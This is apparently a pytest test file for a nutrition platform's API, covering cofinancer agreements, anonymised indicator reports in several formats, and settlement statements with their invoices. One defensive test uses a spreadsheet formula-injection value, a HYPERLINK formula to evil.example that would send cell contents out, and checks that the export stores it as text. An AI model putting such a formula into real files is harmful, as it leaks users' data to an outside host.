"""Agreements, anonymised reports (JSON, CSV, Excel, trend charts) and settlement
statements through the API, as a provider's admin and as cofinancers."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, timedelta
from decimal import Decimal

import openpyxl
import pytest

from nutriplat.indicators.disclosure import exposed
from nutriplat.indicators.models import Settlement
from tests.api.indicators_pilot import AGREEMENT, NAMES, accept, agreement, as_rows, parties, pilot, report
from tests.setup_calls import setup

__all__ = ["agreement", "parties", "pilot"]  # fixtures

# The reports' periods close on fixed dates: the tests live on 7 December 2026.
pytestmark = pytest.mark.business_day("2026-12-07")


def test_an_agreement_freezes_indicator_versions_and_its_terms(agreement):
    assert [(i["code"], i["version"], i["target"]) for i in agreement["indicators"]][:3] == [
        ("screening_coverage", 1, "70"), ("risk_improved_3m", 1, "40"), ("mean_weight_change", 1, "0")]
    assert agreement["payment_rules"][0]["params"]["price_per_client"] == "150.00"
    assert agreement["payment_rules"][2]["params"]["share"] == "0.5"


def test_an_agreement_with_bad_terms_is_refused_naming_every_problem(http, parties):
    admin, funder, _ = parties
    response = http.post("/api/v1/agreements", headers=admin.headers, json=AGREEMENT | {
        "cofinancer_id": admin.organisation_id, "ends_on": "2026-01-01", "baseline_period": "Q2",
        "indicators": [{"code": "screening_coverage"}, {"code": "nonsense"}],
        "payment_rules": [{"kind": "threshold", "params": {"indicator": "screening_coverage", "bonus": "x"}}]})
    assert response.status_code == 422
    assert set(response.json["errors"]) >= {
        "cofinancer_id", "ends_on", "baseline_period", "indicators.1.code", "payment_rules.0.params.bonus",
        "payment_rules.0.params.clawback", "payment_rules.0.params.indicator"}
    unknown = http.post("/api/v1/agreements", headers=admin.headers, json=AGREEMENT | {
        "cofinancer_id": funder.organisation_id, "cohort": {"regions": ["Atlantis"]}})
    assert unknown.status_code == 422 and "regions" in unknown.json["errors"]["cohort"]


def test_cofinancers_see_their_own_agreements_only(http, parties, agreement):
    _admin, funder, other = parties
    assert [a["id"] for a in http.get("/api/v1/agreements", headers=funder.headers).json] == [agreement["id"]]
    assert http.get("/api/v1/agreements", headers=other.headers).json == []
    assert http.get(f"/api/v1/agreements/{agreement['id']}", headers=other.headers).status_code == 404
    assert report(http, other, agreement["id"]).status_code == 404
    assert http.post(f"/api/v1/agreements/{agreement['id']}/settlements", headers=other.headers,
                     json={"period": "2026Q3"}).status_code == 404
    assert len(http.get("/api/v1/indicators", headers=funder.headers).json) == 13  # twelve + staff wellbeing


def test_the_report_compares_baseline_and_follow_up_and_suppresses_small_cells(http, parties, agreement):
    _, funder, _ = parties
    response = report(http, funder, agreement["id"])  # default: the last complete quarter
    assert response.status_code == 200, response.json
    payload = response.json
    assert payload["baseline_period"] == "2026Q2" and payload["period"] <= "2026Q3"
    rows = payload["rows"]
    assert all(set(row) == {"indicator", "period", "disaggregation", "numerator", "denominator", "value",
                            "suppressed", "no_data"} for row in rows)
    totals = {(r["indicator"], r["period"]): r for r in rows if r["disaggregation"] == {}}
    assert totals[("screening_coverage", "2026Q2")] == {
        "indicator": "screening_coverage", "period": "2026Q2", "disaggregation": {}, "numerator": 14.0,
        "denominator": 19.0, "value": 73.7, "suppressed": False, "no_data": None}
    q3 = report(http, funder, agreement["id"], period="2026Q3").json
    improved = next(r for r in q3["rows"] if r["indicator"] == "risk_improved_3m" and r["period"] == "2026Q3"
                    and r["disaggregation"] == {})
    assert (improved["numerator"], improved["denominator"], improved["value"]) == (5.0, 10.0, 50.0)
    for row in q3["rows"]:
        if row["suppressed"]:
            assert row["numerator"] is None and row["denominator"] is None and row["value"] is None
    by_sex = [r for r in q3["rows"] if r["indicator"] == "risk_improved_3m" and "sex" in r["disaggregation"]
              and r["period"] == "2026Q3"]
    assert by_sex and all(r["suppressed"] for r in by_sex)  # 5 women (2 improved), 5 men (3 improved): too few
    assert exposed(as_rows(q3)) == []
    assert {c["indicator"] for c in q3["charts"]} == {i["code"] for i in q3["indicators"]}


def test_no_identifier_leaves_in_any_format(http, parties, agreement, pilot):
    _, funder, _ = parties
    outputs = [report(http, funder, agreement["id"], period="2026Q3", format=f).data for f in ("json", "csv")]
    workbook = openpyxl.load_workbook(io.BytesIO(report(http, funder, agreement["id"], format="xlsx").data))
    outputs.append(" ".join(str(cell.value) for sheet in workbook for row in sheet.iter_rows()
                            for cell in row).encode())
    for output in outputs:
        assert not any(name.encode() in output for name in NAMES)
        assert b"client_id" not in output and b"Pilot" not in output


def test_csv_and_xlsx_carry_the_same_rows(http, parties, agreement):
    admin = parties[0]
    as_json = report(http, admin, agreement["id"], period="2026Q3").json["rows"]
    response = report(http, admin, agreement["id"], period="2026Q3", format="csv")
    assert response.mimetype == "text/csv"
    table = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(table) == len(as_json)
    assert table[0] == {"indicator": "screening_coverage", "period": "2026Q2", "dimension": "", "category": "",
                        "numerator": "14", "denominator": "19", "value": "73.7", "suppressed": "False",
                        "no_data": ""}
    workbook = openpyxl.load_workbook(io.BytesIO(report(http, admin, agreement["id"], format="xlsx").data))
    assert workbook.sheetnames == ["Report", "Indicators", "About"]


def test_a_trend_chart_is_an_image(http, parties, agreement):
    _, funder, _ = parties
    response = http.get("/api/v1/reports/indicators/trend.png", headers=funder.headers, query_string={
        "agreement_id": agreement["id"], "indicator": "mean_weight_change", "period": "2026Q3"})
    assert response.status_code == 200 and response.mimetype == "image/png"
    assert response.data.startswith(b"\x89PNG")
    unknown = http.get("/api/v1/reports/indicators/trend.png", headers=funder.headers,
                       query_string={"agreement_id": agreement["id"], "indicator": "on_time_deliveries"})
    assert unknown.status_code == 422


def test_bad_periods_are_refused(http, parties, agreement):
    admin = parties[0]
    assert report(http, admin, agreement["id"], period="2026Q7").status_code == 422
    assert report(http, admin, agreement["id"], period="2099").json["errors"]["period"][0].startswith(
        "The agreement reports per quarter: 2026Q2, 2026Q3")
    assert report(http, admin, agreement["id"], format="pdf").status_code == 422


def test_withdrawing_consent_leaves_the_periods_not_yet_reported(http, parties, agreement, pilot, world):
    _admin, funder, _ = parties
    dora = world.person("dora", "dietitian")
    before = report(http, funder, agreement["id"], period="2026Q2").json["rows"][0]
    consent = http.get(f"/api/v1/clients/{pilot[0]}/consents", headers=dora.headers).json[0]
    assert http.delete(f"/api/v1/clients/{pilot[0]}/consents/{consent['id']}", headers=dora.headers).status_code == 200
    q3 = report(http, funder, agreement["id"], period="2026Q3").json["rows"]
    after = next(row for row in q3 if row["period"] == "2026Q3" and not row["disaggregation"])
    assert (before["indicator"], before["denominator"], after["denominator"]) == ("screening_coverage", 19.0, 18.0)
    assert q3[0] == before  # 2026Q2, as released before: frozen


def test_a_settlement_statement_is_issued_once_and_recomputes_to_the_cent(http, parties, agreement, uow):
    admin, funder, _ = parties
    path = f"/api/v1/agreements/{agreement['id']}/settlements"
    response = http.post(path, headers=funder.headers, json={"period": "2026Q3"})
    assert response.status_code == 201, response.json
    statement = response.json
    lines = {line["kind"]: line for line in statement["lines"]}
    assert lines["per_client_outcome"]["amount"] == "750.00"  # 5 clients improved × 150
    assert lines["threshold"]["amount"] == "2500.00"  # 14 of 19 screened ≥ 70 %
    assert lines["start_budget"]["amount"] == "10000.00"
    assert lines["shared_savings"]["amount"] == "11400.00"  # (500 × 57 client-months − 5,700 invoiced) × 0.5
    assert statement["total"] == "24650.00"
    assert lines["per_client_outcome"]["steps"][0]["description"].startswith("clients reaching")
    coverage = next(i for i in statement["indicators"] if i["code"] == "screening_coverage")
    assert (coverage["value"], coverage["target"], coverage["baseline_value"], coverage["met"]) == (
        "73.7", "70", "73.7", True)
    assert statement["snapshot"]["cohort_clients"] == 19 and statement["status"] == "issued"
    assert http.post(path, headers=admin.headers, json={"period": "2026Q3"}).status_code == 409
    verified = http.get(f"/api/v1/settlements/{statement['id']}/verification", headers=funder.headers).json
    assert verified == {"settlement_id": statement["id"], "stored_total": "24650.00", "recomputed_total": "24650.00",
                        "checksum_matches": True, "terms_match": True, "matches": True}
    assert http.get(path, headers=funder.headers).json[0]["id"] == statement["id"]
    with uow:
        stored = uow.session.get(Settlement, statement["id"])
        stored.total = Decimal("1.00")
        with pytest.raises(ValueError, match="never changes"):
            uow.session.flush()


def test_only_complete_periods_of_the_agreements_kind_are_settled(http, parties, agreement):
    admin = parties[0]
    path = f"/api/v1/agreements/{agreement['id']}/settlements"
    monthly = http.post(path, headers=admin.headers, json={"period": "2026-08"})
    assert monthly.status_code == 422 and "settles per quarter" in monthly.json["errors"]["period"][0]
    later = date(2026, 12, 7) + timedelta(days=120)
    future = http.post(path, headers=admin.headers, json={"period": f"{later.year}Q{(later.month + 2) // 3}"})
    assert future.status_code == 422
    before = http.post(path, headers=admin.headers, json={"period": "2026Q1"})
    assert before.status_code == 422 and "within the agreement" in before.json["errors"]["period"][0]


def test_the_monthly_snapshot_job_freezes_each_reporting_period_once(http, parties, agreement):
    from nutriplat.db import UnitOfWork
    from nutriplat.jobs.registry import JOBS
    from nutriplat.periods import Month

    _, funder, _ = parties
    factory = http.application.extensions["nutriplat"].session_factory
    job = JOBS["indicator-snapshot"]
    assert job.run(lambda: UnitOfWork(factory), Month(2026, 8)) == {"snapshots": 0}  # not a quarter's end
    assert job.run(lambda: UnitOfWork(factory), Month(2026, 9)) == {"snapshots": 1}
    assert job.run(lambda: UnitOfWork(factory), Month(2026, 9)) == {"snapshots": 0}
    assert job.run(lambda: UnitOfWork(factory), Month(2026, 3)) == {"snapshots": 0}  # before the agreement
    [snapshot] = http.get(f"/api/v1/agreements/{agreement['id']}/snapshots", headers=funder.headers).json
    coverage = next(r for r in snapshot["rows"] if r["indicator"] == "screening_coverage" and not r["disaggregation"])
    assert snapshot["period"] == "2026Q3" and coverage["numerator"] == "14" and coverage["denominator"] == "19"


def test_an_agreement_named_as_a_formula_stays_text_in_the_workbook(http, parties, pilot):
    admin, funder, _ = parties
    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    made = setup(http.post("/api/v1/agreements", headers=admin.headers,
                           json=AGREEMENT | {"cofinancer_id": funder.organisation_id, "name": name}))
    data = report(http, funder, made["id"], period="2026Q3", format="xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not any("<f>" in package.read(part).decode() for part in package.namelist()
                       if part.startswith("xl/worksheets/"))
    about = openpyxl.load_workbook(io.BytesIO(data))["About"]
    cell = next(c for row in about.iter_rows() for c in row if c.value == name)
    assert cell.data_type == "s" and cell.quotePrefix


def test_a_month_without_invoices_leaves_the_cost_without_value_and_nothing_is_paid_on_it(
        http, parties, agreement, uow):
    from sqlalchemy import delete

    from nutriplat.billing.models import Invoice

    admin, funder, _ = parties
    with uow:
        uow.session.execute(delete(Invoice).where(Invoice.month == "2026-09"))
        uow.commit()
    q3 = report(http, funder, agreement["id"], period="2026Q3").json
    cost = [r for r in q3["rows"] if r["indicator"] == "cost_per_client_month" and r["period"] == "2026Q3"]
    assert cost and all((r["numerator"], r["value"], r["no_data"]) == (None, None, "no client invoices for 2026-09")
                        for r in cost)
    baseline = next(r for r in q3["rows"] if r["indicator"] == "cost_per_client_month" and r["period"] == "2026Q2"
                    and not r["disaggregation"])
    assert (baseline["value"], baseline["no_data"]) == (100.0, None)  # € 5,700 / 57 client-months
    refused = http.post(f"/api/v1/agreements/{agreement['id']}/settlements", headers=funder.headers,
                        json={"period": "2026Q3"})
    assert refused.status_code == 409
    assert refused.json["errors"] == {"period": [
        "cost_per_client_month 2026Q3: no value (no client invoices for 2026-09); it cannot be settled on."]}
    assert http.get(f"/api/v1/agreements/{agreement['id']}/settlements", headers=admin.headers).json == []


def test_an_issued_settlement_becomes_one_invoice_to_the_cofinancer_linked_both_ways(http, parties, agreement, uow):
    from sqlalchemy import select

    from nutriplat.billing.models import Invoice

    admin, funder, _ = parties
    path = f"/api/v1/agreements/{agreement['id']}/settlements"
    issued = http.post(path, headers=funder.headers, json={"period": "2026Q3"}).json
    document = issued["invoice"]
    assert document["document_type"] == "invoice" and document["number"].startswith("F2026-")
    assert document["total"] == "24650.00"  # the statement's total; outcome payments carry 0 % VAT
    assert http.post(path, headers=admin.headers, json={"period": "2026Q3"}).status_code == 409  # issued twice
    with uow:
        invoices = list(uow.session.scalars(select(Invoice).where(
            Invoice.payer_organisation_id == funder.organisation_id)))
        assert [i.number for i in invoices] == [document["number"]]  # one invoice
        [invoice] = invoices
        assert invoice.organisation_id == admin.organisation_id and invoice.vat_total == 0
        assert [(line.kind, str(line.amount)) for line in invoice.lines] == [
            ("outcome_payment", "750.00"), ("outcome_payment", "2500.00"), ("outcome_payment", "11400.00"),
            ("outcome_payment", "10000.00")]
        assert {(line.source["agreement_id"], line.source["period"]) for line in invoice.lines} == {
            (agreement["id"], "2026Q3")}  # back to the statement
    shown = http.get(f"/api/v1/settlements/{issued['id']}", headers=funder.headers).json
    assert shown["invoice"]["id"] == document["id"]


def test_a_clawback_settlement_becomes_a_credit_note_and_one_that_pays_nothing_no_document(http, parties, pilot):
    admin, funder, _ = parties
    ids = []
    for floor, clawback in (("80", "1000.00"), ("60", "0.00")):
        made = http.post("/api/v1/agreements", headers=admin.headers, json=AGREEMENT | {
            "cofinancer_id": funder.organisation_id, "name": f"Floor {floor}",
            "indicators": [{"code": "screening_coverage", "target": 90}],
            "payment_rules": [{"kind": "threshold", "params": {"indicator": "screening_coverage", "bonus": "500.00",
                                                               "clawback": clawback, "floor": floor}}]})
        ids.append(accept(http, admin, funder, made.json["id"])["id"])
    clawed = http.post(f"/api/v1/agreements/{ids[0]}/settlements", headers=funder.headers, json={"period": "2026Q3"})
    assert clawed.json["total"] == "-1000.00"  # 73.7 % is worse than the floor of 80 %
    assert clawed.json["invoice"]["document_type"] == "credit_note"
    assert clawed.json["invoice"]["number"].startswith("C2026-") and clawed.json["invoice"]["total"] == "-1000.00"
    nothing = http.post(f"/api/v1/agreements/{ids[1]}/settlements", headers=funder.headers, json={"period": "2026Q3"})
    assert nothing.json["total"] == "0.00" and nothing.json["invoice"] is None
